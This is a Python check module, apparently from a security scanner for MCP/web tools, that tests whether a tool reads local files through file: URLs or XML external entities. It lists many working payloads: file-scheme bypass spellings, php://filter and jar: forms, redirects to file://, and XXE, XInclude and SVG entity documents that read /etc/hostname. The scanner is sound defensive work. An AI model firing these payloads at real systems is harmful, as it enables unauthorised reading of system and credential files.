"""D04: is a local file read through a URL, or through an entity of a document? The canary is the container's random name."""

from __future__ import annotations

from collections.abc import Iterator

from mcpweb.plugin import CheckResult

from . import marks
from .attack import Attack, Family, declared

CHECK = "D04"
FIX = "Allow the schemes http and https only, after each redirect again; switch external entities off in the XML parser."
FILES = r"\bfile:|file ur[il]|any ur[il]"

FORMS = ("file:///{p}",)
FURTHER = (
    "file://localhost/{p}",
    "FILE:///{p}",
    "file:/{p}",
    "file:{p0}",
    "url:file:///{p}",
    "URL:file:///{p}",
    " file:///{p}",
    "local_file:///{p}",
    "view-source:file:///{p}",
    "netdoc:///{p}",
    "jar:file:///{p}!/",
    "php://filter/resource=/{p}",
    "file://127.0.0.1/{p}",
    "file:///%65tc/hostname",
    "vscode-file:///{p}",
    "{v}#file:///{p}",
    "http://file:///{p}",
)
DOCUMENTS = (
    '<?xml version="1.0"?><!DOCTYPE {n} [<!ENTITY {m} SYSTEM "file:///{p}">]><{n}>&{m};</{n}>',
    '<{n} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///{p}"/></{n}>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY {m} SYSTEM "file:///{p}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&{m};</text></svg>',
)


def first(attack: Attack) -> Iterator[CheckResult | None]:
    """Try the plain scheme and a document with an entity."""
    yield from _each(attack, (*FORMS, DOCUMENTS[0]))


def more(attack: Attack) -> Iterator[CheckResult | None]:
    """Try other spellings, a redirect, other documents."""
    redirects = tuple(f"http://{attack.lab.sink.host()}/redirect/{code}?to=file:///{{p}}" for code in (302, 307))
    yield from _each(attack, (*redirects, *FURTHER, *DOCUMENTS[1:]))


def _each(attack: Attack, forms: tuple[str, ...]) -> Iterator[CheckResult | None]:
    for form in forms:
        verdict = _try(attack, form)
        if verdict is not None:
            yield verdict
            return


def _fill(attack: Attack, form: str, place: str) -> str:
    return (
        form.replace("{p}", place)
        .replace("{p0}", f"/{place}")
        .replace("{n}", marks.token(6))
        .replace("{m}", marks.token(6))
        .replace("{v}", attack.valid)
    )


def _try(attack: Attack, form: str) -> CheckResult | None:
    sent = _fill(attack, form, "etc/hostname")
    reply = attack.send(sent)
    found = marks.read(attack.canary, reply.text)
    if not found:
        return None
    control = attack.send(_fill(attack, form, f"etc/{marks.token()}"))
    if any(not one.answered or marks.read(attack.canary, one.text) for one in (control, attack.plain())):
        return None
    again = attack.send(_fill(attack, form, "etc/hostname"))
    if not marks.read(attack.canary, again.text):
        return None
    entity = "<" in form
    known = declared(attack.point, FILES) and not entity
    return attack.fail(
        CHECK,
        f"A local file is read through {'an entity in the document' if entity else 'a URL'} in {attack.point.pointer}"
        f"{', as the tool says of itself' if known else ''}.",
        sent=sent,
        severity="medium" if known else None,
        next_step=FIX,
        reply=reply,
        mark=found,
        canary=found,
        control={"sent": "the same with a random name", "answer": control.text[:200]},
    )


FAMILY = Family(
    CHECK, first, more, likely=r"ur[il]|link|href|source|src|xml|svg|html|feed|document|image|import|load|fetch|parse"
)
